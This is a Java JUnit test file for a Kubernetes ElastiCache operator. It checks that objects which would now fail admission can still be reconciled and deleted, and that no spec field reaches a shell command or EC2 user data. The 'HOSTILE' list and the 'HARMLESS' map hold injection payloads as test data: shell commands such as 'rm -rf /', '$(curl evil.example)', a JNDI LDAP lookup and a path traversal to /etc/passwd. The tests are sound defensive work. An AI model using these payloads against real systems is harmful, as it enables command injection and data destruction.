package dev.elasticacheoperator.behaviour;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.elasticacheoperator.api.v1alpha1.ElastiCacheEnvironment;
import dev.elasticacheoperator.lab.AdmittingServer;
import dev.elasticacheoperator.lab.Leftovers;
import dev.elasticacheoperator.sandbox.aws.CallHook;
import dev.elasticacheoperator.sandbox.aws.SimulatedCall;
import io.fabric8.kubernetes.client.KubernetesClientException;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Base64;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import software.amazon.awssdk.services.ec2.model.RunInstancesRequest;

/**
 * Objects that admission would refuse and that are there all the same: written before a rule became
 * stricter, or by somebody with other means. They are reconciled or said to be invalid, they can
 * always be deleted, and no value of theirs becomes a command.
 */
@Tag("slow")
class PastAdmissionTest {

  private static final String A_PATH = "../../etc/passwd";

  /**
   * Fields that may hold such values, because only AWS receives them. Tags hold paths, and the name
   * of a security group nearly all punctuation.
   */
  private static final Map<String, Set<String>> HARMLESS =
      Map.of(
          "vpc.name", Set.of(A_PATH),
          "network.cacheSubnets[].name", Set.of(A_PATH),
          "network.internetGatewayName", Set.of(A_PATH),
          "network.routeTableName", Set.of(A_PATH),
          "network.securityGroupName",
              Set.of(A_PATH, "$(curl evil.example)", "a;b", "${jndi:ldap://evil.example}"),
          "bastion.subnet.name", Set.of(A_PATH),
          "bastion.name", Set.of(A_PATH),
          "tags{}", Set.of(A_PATH),
          "tags{key}", Set.of(A_PATH),
          "parameterGroup.parameters{}", Set.of(A_PATH));

  /** Values that a shell, a template or a path would interpret. */
  private static final List<String> HOSTILE =
      List.of(
          "x'; rm -rf / #",
          "x\"; reboot; \"",
          "$(curl evil.example)",
          "`id`",
          "a;b",
          "a\nb",
          A_PATH,
          "a\u0000b",
          "\u202egnp.exe",
          "${jndi:ldap://evil.example}");

  private static AdmittingServer server;

  @BeforeAll
  static void anApiServer() throws Exception {
    server = AdmittingServer.start();
  }

  @AfterAll
  static void stop() {
    server.close();
  }

  static Stream<Arguments> old() {
    return Stream.of(
        Arguments.of("cache.port", 80),
        Arguments.of("cache.name", "a-name-of-more-than-forty-characters-as-aws-allows"),
        Arguments.of("cache.version", "3.2.10"),
        Arguments.of("cache.version", "nonsense"),
        Arguments.of("cache.engine", "dragonfly"),
        Arguments.of("cache.nodeType", "db.t3.micro"),
        Arguments.of("cache.nodeType", null),
        Arguments.of("cache.maintenanceWindow", "whenever"),
        Arguments.of("cache", null),
        Arguments.of("vpc", null),
        Arguments.of("vpc.cidrBlock", "10.20.0.0/8"),
        Arguments.of("network.cacheSubnets", List.of()),
        Arguments.of("network.cacheSubnets", List.of(Map.of("cidrBlock", "10.99.0.0/24"))),
        Arguments.of("network.allowedCidrs", List.of("0.0.0.0/0")),
        Arguments.of("network.allowedCidrs", List.of("10.1.2.3/24")),
        Arguments.of("parameterGroup.family", "redis7"),
        Arguments.of("parameterGroup.parameters", Map.of("cluster-enabled", "yes")),
        Arguments.of("bastion.subnet.cidrBlock", "10.20.1.0/25"),
        Arguments.of("bastion.keyName", ""),
        Arguments.of("tags", Map.of("Name", "mine", "aws:cloudformation:stack-name", "x")),
        Arguments.of("region", "the moon"));
  }

  @ParameterizedTest(name = "{0}: {1}")
  @MethodSource("old")
  void anObjectOlderThanARuleIsReportedAndCanBeDeleted(String field, Object value) {
    assertThrows(
        KubernetesClientException.class,
        () -> server.client().resource(article(field, value)).create());
    var fixture = Fixture.ready();
    fixture.harness.api.apply(article(field, value));
    fixture.harness.changed(Fixture.NAME);
    fixture.harness.pass(Duration.ofMinutes(20));
    var ready = fixture.condition("Ready");
    assertTrue(
        ready.getStatus().equals("True") || !ready.getMessage().isBlank(),
        "neither ready nor said why");
    assertFalse(
        fixture.calls.changes().contains("DeleteCacheCluster"), "the cache is gone unasked");
    fixture.deleteLeavingNothing();
  }

  static Stream<Arguments> hostile() {
    return Stream.of(
            "region",
            "vpc.cidrBlock",
            "vpc.name",
            "network.cacheSubnets[].cidrBlock",
            "network.cacheSubnets[].availabilityZone",
            "network.cacheSubnets[].name",
            "network.allowedCidrs[]",
            "network.internetGatewayName",
            "network.routeTableName",
            "network.securityGroupName",
            "iam.roleName",
            "iam.policyArns[]",
            "iam.path",
            "iam.permissionsBoundary",
            "subnetGroup.name",
            "parameterGroup.name",
            "parameterGroup.family",
            "cache.version",
            "cache.nodeType",
            "cache.name",
            "cache.maintenanceWindow",
            "bastion.subnet.cidrBlock",
            "bastion.subnet.availabilityZone",
            "bastion.subnet.name",
            "bastion.instanceType",
            "bastion.imageId",
            "bastion.keyName",
            "bastion.sshCidrs[]",
            "bastion.name",
            "tags{}",
            "tags{key}",
            "parameterGroup.parameters{}",
            "parameterGroup.parameters{key}",
            "secret.name")
        .map(Arguments::of);
  }

  @ParameterizedTest
  @MethodSource("hostile")
  void noValueBecomesACommand(String field) {
    var taken = new ArrayList<String>();
    for (var value : HOSTILE) {
      var object = hostile(field, value);
      if (admitted(object)) {
        taken.add(value);
      }
      var fixture = new Fixture();
      var userData = new HashSet<String>();
      fixture.harness.cloud.hook(
          new CallHook() {
            @Override
            public void before(SimulatedCall call) {
              if (call.request() instanceof RunInstancesRequest run) {
                userData.add(run.userData());
              }
            }
          });
      fixture.harness.api.apply(object);
      fixture.harness.pass(Duration.ofMinutes(20));
      commands(fixture).forEach(c -> assertTrue(c.matches("[A-Za-z0-9 ._-]+"), c));
      userData.stream()
          .map(data -> new String(Base64.getDecoder().decode(data), StandardCharsets.UTF_8))
          .forEach(data -> assertFalse(data.contains(value), data));
      assertTrue(userData.size() <= 1, "user data depends on the spec");
      fixture.delete();
      fixture.harness.untilGone(Fixture.NAME);
      fixture.stranger(aws -> assertEquals(List.of(), Leftovers.of(Leftovers.of(aws))));
    }
    assertEquals(HARMLESS.getOrDefault(field, Set.of()), new HashSet<>(taken), "admitted");
  }

  private static boolean admitted(ElastiCacheEnvironment object) {
    try {
      server.client().resource(server.client().resource(object).create()).delete();
      return true;
    } catch (KubernetesClientException refused) {
      assertEquals(422, refused.getCode(), refused::getMessage);
      return false;
    }
  }

  private static List<String> commands(Fixture fixture) {
    var bastion = fixture.status().bastion();
    return bastion == null
        ? List.of()
        : Stream.of(bastion.connect(), bastion.client()).filter(c -> c != null).toList();
  }

  private static ElastiCacheEnvironment hostile(String field, String value) {
    if (field.endsWith("{}")) {
      return article(field.replace("{}", ""), Map.of("timeout", value));
    }
    if (field.endsWith("{key}")) {
      return article(field.replace("{key}", ""), Map.of(value, "x"));
    }
    if (field.endsWith("[]")) {
      return article(field.replace("[]", ""), List.of(value));
    }
    var part = field.split("\\[]\\.");
    return part.length == 2
        ? article(part[0], List.of(Map.of(part[1], value)))
        : article(field, value);
  }

  private static ElastiCacheEnvironment article(String field, Object value) {
    var object = Fixture.article();
    object.setSpec(Fixture.with(object.getSpec(), field, value));
    return object;
  }
}
